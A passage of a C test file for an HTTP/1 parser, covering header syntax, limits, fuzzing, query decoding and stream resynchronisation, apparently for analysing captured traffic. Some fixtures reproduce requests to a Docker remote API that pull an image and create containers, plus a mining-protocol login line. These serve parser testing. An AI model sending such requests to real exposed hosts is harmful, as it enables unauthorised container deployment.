    CHECK_EQ(s.status, 101);
    CHECK(span_is(s.reason, s.reason_len, "UPGRADED"));
    CHECK_EQ(http1_resp_framing(&s, r.method_id, &len), HTTP1_BODY_TUNNEL);
    http1_body_init(&b, HTTP1_BODY_TUNNEL, 0);
    CHECK_EQ(http1_body_feed(&b, U(upgraded) + h, sizeof(upgraded) - 1 - (size_t)h, &d, &dl, &c),
             0);
    CHECK_EQ(dl, 11);
    CHECK(d == U(upgraded) + h);
    CHECK_EQ(http1_body_eof(&b), 1);
    /* an Upgrade header without Connection: Upgrade is not a request to switch */
    CHECK(req("GET / HTTP/1.1\r\nUpgrade: tcp\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_req_upgrade(&r, NULL, NULL), 0);
    CHECK(req("GET / HTTP/1.1\r\nConnection: keep-alive, Upgrade\r\nUpgrade: websocket\r\n\r\n",
              &r) > 0);
    CHECK_EQ(http1_req_upgrade(&r, NULL, NULL), 1);
    CHECK_EQ(http1_connection(&r.hdr), HTTP1_CONN_KEEP_ALIVE | HTTP1_CONN_UPGRADE);
}

static void test_connection(void)
{
    struct http1_req r;

    CHECK(req("GET / HTTP/1.0\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_keep_alive(r.minor, &r.hdr), 0);
    CHECK(req("GET / HTTP/1.0\r\nConnection: Keep-Alive\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_keep_alive(r.minor, &r.hdr), 1);
    CHECK(req("GET / HTTP/1.1\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_keep_alive(r.minor, &r.hdr), 1);
    CHECK(req("GET / HTTP/1.1\r\nConnection: te\r\nConnection: close;x\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_keep_alive(r.minor, &r.hdr), 0);
    CHECK(req("GET / HTTP/1.1\r\nConnection: closed\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_connection(&r.hdr), 0);
    CHECK(req("GET / HTTP/1.1\r\nA: 1\r\nB: 2\r\na: 3\r\n\r\n", &r) > 0);
    CHECK_EQ(http1_header_find(&r.hdr, "a", 0), 0);
    CHECK_EQ(http1_header_find(&r.hdr, "A", 1), 2);
    CHECK_EQ(http1_header_find(&r.hdr, "a", 3), -1);
    CHECK_EQ(http1_header_find(&r.hdr, "ab", 0), -1);
}

/* ---- head syntax ---------------------------------------------------------------------- */

static void test_head_syntax(void)
{
    static const struct {
        const char *s;
        int want; /* > 0: parses to strlen(s) */
    } rq[] = {
        {"GET / HTTP/1.1\nHost: x\nUser-Agent: curl/7.88.1\n\n", 1}, /* bare LF */
        {"GET / HTTP/1.1\r\nHost: x\n\r\n", 1},                      /* mixed */
        {"\r\n\r\nGET / HTTP/1.1\r\n\r\n", 1},                       /* leading empty lines */
        {"GET  /a  HTTP/1.1\r\n\r\n", 1},                            /* extra spaces */
        {"GET / HTTP/1.1\r\nX:\r\nY:   \t\r\n\r\n", 1},              /* empty values */
        {"GET /caf\xc3\xa9 HTTP/1.1\r\nX: \xff\xfe\r\n\r\n", 1},     /* obs-text */
        {"GET / HTTP/1.1\r\nX: a\r\n b\r\n\r\n", HTTP1_ERR_OBS_FOLD},
        {"GET / HTTP/1.1\r\n X: a\r\n\r\n", HTTP1_ERR_OBS_FOLD},
        {"GET / HTTP/1.1\r\nX : a\r\n\r\n", HTTP1_ERR_HEADER_NAME},
        {"GET / HTTP/1.1\r\n: a\r\n\r\n", HTTP1_ERR_HEADER_NAME},
        {"GET / HTTP/1.1\r\nX(y): a\r\n\r\n", HTTP1_ERR_HEADER_NAME},
        {"GET / HTTP/1.1\r\nX: a\x01\r\n\r\n", HTTP1_ERR_HEADER_VALUE},
        {"GET / HTTP/1.1\r\nX: a\rb\r\n\r\n", HTTP1_ERR_LINE_END},
        {"GET / HTTP/1.1\rX\r\n\r\n", HTTP1_ERR_VERSION},
        {"GET /\r\n", HTTP1_ERR_VERSION}, /* HTTP/0.9 */
        {"GET / HTTP/2.0\r\n\r\n", HTTP1_ERR_VERSION},
        {"GET / http/1.1\r\n\r\n", HTTP1_ERR_VERSION},
        {"GET / HTTP/1.1x\r\n\r\n", HTTP1_ERR_VERSION},
        {"GET /a\x01 HTTP/1.1\r\n\r\n", HTTP1_ERR_TARGET},
        {"GE\x7fT / HTTP/1.1\r\n\r\n", HTTP1_ERR_METHOD},
        {" GET / HTTP/1.1\r\n\r\n", HTTP1_ERR_METHOD},
        {"GET\t/ HTTP/1.1\r\n\r\n", HTTP1_ERR_METHOD},
        {"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", HTTP1_ERR_METHOD}, /* TLS */
        {"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", HTTP1_ERR_VERSION},
        {"{\"id\":1,\"method\":\"login\"}\n", HTTP1_ERR_METHOD}, /* stratum */
    };
    static const struct {
        const char *s;
        int want;
        int status;
    } rs[] = {
        {"HTTP/1.1 200\r\n\r\n", 1, 200},
        {"HTTP/1.1 200 \r\n\r\n", 1, 200},
        {"HTTP/1.0 404 Not Found\nServer: BusyBox httpd\n\n", 1, 404},
        {"HTTP/1.1 599 x\ty\xe9\r\n\r\n", 1, 599},
        {"HTTP/1.1 099 Odd\r\n\r\n", HTTP1_ERR_STATUS, 0},
        {"HTTP/1.1 20x OK\r\n\r\n", HTTP1_ERR_STATUS, 0},
        {"HTTP/1.1 2000 OK\r\n\r\n", HTTP1_ERR_STATUS, 0},
        {"HTTP/1.1 200 O\x01K\r\n\r\n", HTTP1_ERR_STATUS, 0},
        {"HTTP/1.1200 OK\r\n\r\n", HTTP1_ERR_VERSION, 0},
        {"HTTP/2 200\r\n\r\n", HTTP1_ERR_VERSION, 0},
        {"ICY 200 OK\r\n\r\n", HTTP1_ERR_VERSION, 0},
        {"HTTP/1.1 200 OK\r\nX: a\r\n\tb\r\n\r\n", HTTP1_ERR_OBS_FOLD, 0},
    };

    for (size_t i = 0; i < sizeof(rq) / sizeof(rq[0]); i++) {
        struct http1_req r;
        int rc = req(rq[i].s, &r);

        if (rc != (rq[i].want > 0 ? (int)strlen(rq[i].s) : rq[i].want))
            fprintf(stderr, "request case %zu: %d (%s)\n", i, rc, http1_strerror(rc));
        CHECK_EQ(rc, rq[i].want > 0 ? (int)strlen(rq[i].s) : rq[i].want);
    }
    for (size_t i = 0; i < sizeof(rs) / sizeof(rs[0]); i++) {
        struct http1_resp s;
        int rc = resp(rs[i].s, &s);

        if (rc != (rs[i].want > 0 ? (int)strlen(rs[i].s) : rs[i].want))
            fprintf(stderr, "response case %zu: %d (%s)\n", i, rc, http1_strerror(rc));
        CHECK_EQ(rc, rs[i].want > 0 ? (int)strlen(rs[i].s) : rs[i].want);
        if (rc > 0)
            CHECK_EQ(s.status, rs[i].status);
    }
    /* details of the lenient cases */
    {
        struct http1_req r;
        struct http1_resp s;

        CHECK(req("\r\n\nPUT  /a  HTTP/1.0\r\nX:  v w \t\r\nY:\r\n\r\n", &r) > 0);
        CHECK(span_is(r.method, r.method_len, "PUT"));
        CHECK(span_is(r.target, r.target_len, "/a"));
        CHECK_EQ(r.hdr.n, 2);
        CHECK(span_is(r.hdr.h[0].value, r.hdr.h[0].value_len, "v w"));
        CHECK_EQ(r.hdr.h[1].value_len, 0);
        CHECK(resp("HTTP/1.1 200\r\n\r\n", &s) > 0);
        CHECK_EQ(s.reason_len, 0);
    }
}

static void test_limits(void)
{
    static char buf[HTTP1_MAX_HEAD + 256];
    struct http1_req r;
    size_t n;
    int rc;

    /* exactly HTTP1_MAX_HEADERS fields parse, one more does not */
    n = (size_t)snprintf(buf, sizeof(buf), "GET / HTTP/1.1\r\n");
    for (int i = 0; i < HTTP1_MAX_HEADERS; i++)
        n += (size_t)snprintf(buf + n, sizeof(buf) - n, "X-H%d: %d\r\n", i, i);
    snprintf(buf + n, sizeof(buf) - n, "\r\n");
    CHECK_EQ(req(buf, &r), (int)n + 2);
    CHECK_EQ(r.hdr.n, HTTP1_MAX_HEADERS);
    CHECK_STR(hval(&r.hdr, "x-h63"), "63");
    snprintf(buf + n, sizeof(buf) - n, "X-More: 1\r\n\r\n");
    CHECK_EQ(req(buf, &r), HTTP1_ERR_TOO_MANY_HEADERS);

    /* a head of exactly HTTP1_MAX_HEAD bytes parses; one byte more is too long */
    n = (size_t)snprintf(buf, sizeof(buf), "GET / HTTP/1.1\r\nX-Pad: ");
    memset(buf + n, 'a', HTTP1_MAX_HEAD - n - 4);
    memcpy(buf + HTTP1_MAX_HEAD - 4, "\r\n\r\n", 4);
    CHECK_EQ(http1_parse_request(U(buf), HTTP1_MAX_HEAD, &r), HTTP1_MAX_HEAD);
    CHECK_EQ(http1_parse_request(U(buf), HTTP1_MAX_HEAD - 1, &r), 0);
    memcpy(buf + HTTP1_MAX_HEAD, "GET ", 4); /* pipelined bytes after it change nothing */
    CHECK_EQ(http1_parse_request(U(buf), HTTP1_MAX_HEAD + 4, &r), HTTP1_MAX_HEAD);
    memcpy(buf + HTTP1_MAX_HEAD - 4, "a\r\n\r\n", 5);
    CHECK_EQ(http1_parse_request(U(buf), HTTP1_MAX_HEAD + 1, &r), HTTP1_ERR_HEAD_TOO_LONG);
    /* incomplete: need more below the bound, too long at it */
    memset(buf + n, 'a', sizeof(buf) - n);
    CHECK_EQ(http1_parse_request(U(buf), HTTP1_MAX_HEAD - 1, &r), 0);
    rc = http1_parse_request(U(buf), HTTP1_MAX_HEAD, &r);
    CHECK_EQ(rc, HTTP1_ERR_HEAD_TOO_LONG);
    CHECK_EQ(http1_parse_request(U(buf), sizeof(buf), &r), HTTP1_ERR_HEAD_TOO_LONG);
    /* an endless run of empty lines is bounded too */
    for (size_t i = 0; i < sizeof(buf); i++)
        buf[i] = i % 2 ? '\n' : '\r';
    CHECK_EQ(http1_parse_request(U(buf), sizeof(buf), &r), HTTP1_ERR_HEAD_TOO_LONG);
}

/* Random bytes and mutated real heads: never a crash, never a length past the input. */
static void test_garbage(void)
{
    static uint8_t buf[2048];
    uint64_t x = 0x853c49e6748fea9bULL;
    int bad = 0;

    for (int iter = 0; iter < 20000; iter++) {
        struct http1_req r;
        struct http1_resp s;
        size_t n;
        int a, b;

        x ^= x << 13, x ^= x >> 7, x ^= x << 17;
        n = (size_t)(x % sizeof(buf));
        if (iter % 2) {
            for (size_t i = 0; i < n; i++) {
                x ^= x << 13, x ^= x >> 7, x ^= x << 17;
                buf[i] = (uint8_t)x;
            }
        } else {
            /* a real head with a few bytes flipped to bytes that matter */
            static const char set[] = "\r\n :\t\x00;0aF%-";
            size_t l = sizeof(docker_created) - 1;

            memcpy(buf, docker_created, l);
            n = l;
            for (int k = 0; k < 3; k++) {
                x ^= x << 13, x ^= x >> 7, x ^= x << 17;
                buf[(x >> 8) % l] = (uint8_t)set[x % (sizeof(set) - 1)];
            }
        }
        a = http1_parse_request(buf, n, &r);
        b = http1_parse_response(buf, n, &s);
        if (a > (int)n || b > (int)n)
            bad++;
        if (b > 0) {
            uint64_t len;
            int kind = http1_resp_framing(&s, HTTP1_M_GET, &len);
            char out[64];
            size_t ol, used;

            if (kind >= 0 && decode(kind, len, (const char *)buf + b, n - (size_t)b, NULL, 0, out,
                                    sizeof(out), &ol, &used) <= -1000)
                bad++;
        }
    }
    CHECK_EQ(bad, 0);
}

/* ---- query strings ---------------------------------------------------------------------- */

static void test_query(void)
{
    static const char t[] = "/v1.41/images/create?fromImage=docker.io%2Fpocosow%2Fcentos&tag=7"
                            "&x=a+b%20c&bad=%zz%4&empty=&bare&from%49mage=no&semi=1;2#frag=z";
    char out[64], small[4];
    size_t len = strlen(t);

    CHECK_EQ(http1_query_param(t, len, "fromImage", out, sizeof(out)), 24);
    CHECK_STR(out, "docker.io/pocosow/centos");
    CHECK_EQ(http1_query_param(t, len, "tag", out, sizeof(out)), 1);
    CHECK_STR(out, "7");
    CHECK_EQ(http1_query_param(t, len, "x", out, sizeof(out)), 5);
    CHECK_STR(out, "a b c");
    CHECK_EQ(http1_query_param(t, len, "bad", out, sizeof(out)), 5);
    CHECK_STR(out, "%zz%4");
    CHECK_EQ(http1_query_param(t, len, "empty", out, sizeof(out)), 0);
    CHECK_STR(out, "");
    CHECK_EQ(http1_query_param(t, len, "bare", out, sizeof(out)), 0);
    CHECK_EQ(http1_query_param(t, len, "semi", out, sizeof(out)), 3);
    CHECK_STR(out, "1;2");
    CHECK_EQ(http1_query_param(t, len, "frag", out, sizeof(out)), -1);
    CHECK_EQ(http1_query_param(t, len, "fromimage", out, sizeof(out)), -1);
    CHECK_EQ(http1_query_param(t, len, "missing", out, sizeof(out)), -1);
    /* truncation is visible in the return value; the buffer stays terminated */
    CHECK_EQ(http1_query_param(t, len, "fromImage", small, sizeof(small)), 24);
    CHECK_STR(small, "doc");
    /* an encoded key is still found (the first match wins) */
    CHECK_EQ(http1_query_param("/p?from%49mage=a%2", 18, "fromImage", out, sizeof(out)), 3);
    CHECK_STR(out, "a%2");
    CHECK_EQ(http1_query_param("/p?a=%", 6, "a", out, sizeof(out)), 1);
    CHECK_STR(out, "%");
    CHECK_EQ(http1_query_param("/p", 2, "a", out, sizeof(out)), -1);
    CHECK_EQ(http1_query_param("/p#?a=1", 7, "a", out, sizeof(out)), -1);
    CHECK_EQ(http1_query_param("/p?a=%00b", 9, "a", out, sizeof(out)), 2);
    CHECK(out[0] == '\0' && out[1] == 'b');
    CHECK_EQ(http1_pct_decode("%2f%2F+", 7, 0, out, sizeof(out)), 3);
    CHECK_STR(out, "//+");
    CHECK_EQ(http1_target_path_len("/a/b?c", 6), 4);
    CHECK_EQ(http1_target_path_len("/a/b#c?", 7), 4);
}

static void test_strerror(void)
{
    int distinct = 1;

    for (int e = HTTP1_ERR_INVAL; e <= HTTP1_ERR_METHOD; e++) {
        CHECK(strcmp(http1_strerror(e), "unknown") != 0);
        for (int f = e + 1; f <= HTTP1_ERR_METHOD; f++)
            if (strcmp(http1_strerror(e), http1_strerror(f)) == 0)
                distinct = 0;
    }
    CHECK(distinct);
    CHECK_STR(http1_strerror(HTTP1_ERR_CHUNK_SIZE), "chunk_size");
    CHECK_STR(http1_strerror(0), "ok");
    CHECK_STR(http1_strerror(-1000), "unknown");
}

/* Resynchronisation: the first line that starts a message, or what can be dropped. */
static void test_resync(void)
{
    static const char req[] = "\x01\x02junk\nGETx /no\nPOST /v1.41/containers/create HTTP/1.1\r\n";
    static const char abs[] = "junk\nGET http://x/y HTTP/1.1\r\n";
    static const char rsp[] = "garbage HTTP/1.1 in a line\nHTTP/1.1 200 OK\r\n";
    int found;
    size_t at;

    at = http1_resync((const uint8_t *)req, sizeof(req) - 1, 0, 0, 16, &found);
    CHECK(found);
    CHECK_EQ(at, (size_t)(strstr(req, "POST") - req));
    at = http1_resync((const uint8_t *)abs, sizeof(abs) - 1, 0, 0, 16, &found);
    CHECK(!found); /* absolute-form not accepted: all but 16 bytes may go */
    CHECK_EQ(at, sizeof(abs) - 1 - 16);
    at = http1_resync((const uint8_t *)abs, sizeof(abs) - 1, 0, 1, 16, &found);
    CHECK(found);
    CHECK_EQ(at, 5);
    at = http1_resync((const uint8_t *)rsp, sizeof(rsp) - 1, 1, 0, 16, &found);
    CHECK(found);
    CHECK_EQ(at, (size_t)(strstr(rsp, "\nHTTP/1.1 200") - rsp) + 1);
    at = http1_resync((const uint8_t *)"abc", 3, 1, 0, 16, &found);
    CHECK(!found);
    CHECK_EQ(at, 0);
}

int main(void)
{
    test_resync();
    test_docker_create();
    test_docker_reply();
    test_curl_download();
    test_methods();
    test_pipelined();
    test_keepalive_pairs();
    test_chunked_splits();
    test_chunked_bare_lf();
    test_chunked_errors();
    test_content_length();
    test_transfer_encoding();
    test_resp_framing();
    test_docker_upgrade();
    test_connection();
    test_head_syntax();
    test_limits();
    test_garbage();
    test_query();
    test_strerror();
    return check_done();
}
